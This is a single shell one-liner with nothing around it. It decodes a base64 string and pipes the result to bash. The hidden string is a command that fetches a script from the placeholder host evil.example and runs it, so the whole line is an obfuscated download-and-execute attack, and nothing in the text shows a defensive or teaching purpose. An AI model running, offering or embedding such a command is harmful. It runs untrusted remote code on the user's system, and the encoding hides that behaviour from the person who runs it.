echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g= | base64 -d | bash
